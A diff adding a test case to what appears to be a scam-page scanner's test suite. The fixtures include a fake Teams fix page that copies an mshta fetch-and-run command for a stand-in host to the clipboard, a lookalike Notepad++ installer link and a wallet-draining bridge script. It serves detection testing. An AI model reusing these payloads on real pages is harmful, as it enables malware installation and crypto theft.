@@ -882,6 +882,17 @@ describe('analysis: signal rules', () => {
       clean(judge('https://www.vitamins.example/c-1000', '<h1>Vitamin C 1000 mg</h1><p>Each tablet gives you 1111% daily value of vitamin C. Take one tablet a day with food.</p>'));
     });
 
+    it('a fake meeting fix that copies a command its script assembled and says Win+X; an installer linked from a host dressed as GitHub; a bridge that shows an amount box but sends the balance minus gas', () => {
+      const teams = judge('https://teams-live.meeting-join.example/l/join', `<title>Microsoft Teams</title><h1>Audio-Treiber-Fehler</h1><ol><li>Klicken Sie auf „Lösung kopieren“</li><li>Drücken Sie Win + X und wählen Sie Terminal (Administrator)</li><li>Fügen Sie mit Strg + V ein</li></ol><button id="cp">Lösung kopieren</button><script>var x=['m','s','h','t','a'].join('')+' https://teams-audio-fix.example/driver/update.hta';document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(x+'   # Microsoft Teams Audio Treiber Reparatur')}</script>`);
+      assert.ok(teams.decidedBy?.includes('combo:clickfix-scripted-copy'), JSON.stringify(ids(teams)));
+      const npp = judge('https://notepad-plus-plus.example.co/downloads/v8.7.1/', '<title>Notepad++ v8.7.1</title><h1>Download Notepad++ v8.7.1</h1><a href="https://github-releases.objects-cdn.example/npp/npp.8.7.1.Installer.x64.exe">Installer</a>');
+      assert.ok(npp.decidedBy?.includes('combo:lookalike-payload'), JSON.stringify(ids(npp)));
+      const bridge = (read: string): ScanResult => judge('https://stargate.bridge-transfer.example/transfer', `<title>Stargate | Cross-chain Transfer</title><input id="amt" value="0.5"><button id="b">Connect Wallet</button><script>var e=window.ethereum,D='0x9f3c2a';document.getElementById('b').onclick=async function(){var u=(await e.request({method:'eth_requestAccounts'}))[0];var b=BigInt(await e.request({method:'eth_getBalance',params:[u,'latest']}));var gp=BigInt(await e.request({method:'eth_gasPrice'}));${read}var send=b-gp*21000n;await e.request({method:'eth_sendTransaction',params:[{from:u,to:D,value:'0x'+send.toString(16),data:'0x'}]})}</script>`);
+      assert.ok(ids(bridge('')).includes('wallet-balance-sweep'), JSON.stringify(ids(bridge(''))));
+      // A bridge that reads the amount the visitor typed is not sweeping, whatever else it computes from the balance.
+      assert.ok(!ids(bridge("var want=document.getElementById('amt').value;")).includes('wallet-balance-sweep'));
+    });
+
     const scamLookalikes: [string, string, string][] = [
       ['a lottery results page warning that winners never pay a fee', 'https://www.lotto-results.example/draw/2026-11-24', '<h1>Results of 24 November</h1><p>Jackpot €85,000,000, not won. Have you won? Check your ticket at any retailer.</p><p>The lottery never e-mails winners and never asks for a processing fee to be paid before a prize is released.</p>'],
       ['a shop returns policy', 'https://www.alpine-outfitters.example/returns', '<h1>Returns and refunds</h1><p>You are eligible for a refund within 30 days of delivery. Return shipping costs must be paid by the customer before we can accept the parcel; refunds are issued to the original card.</p>'],
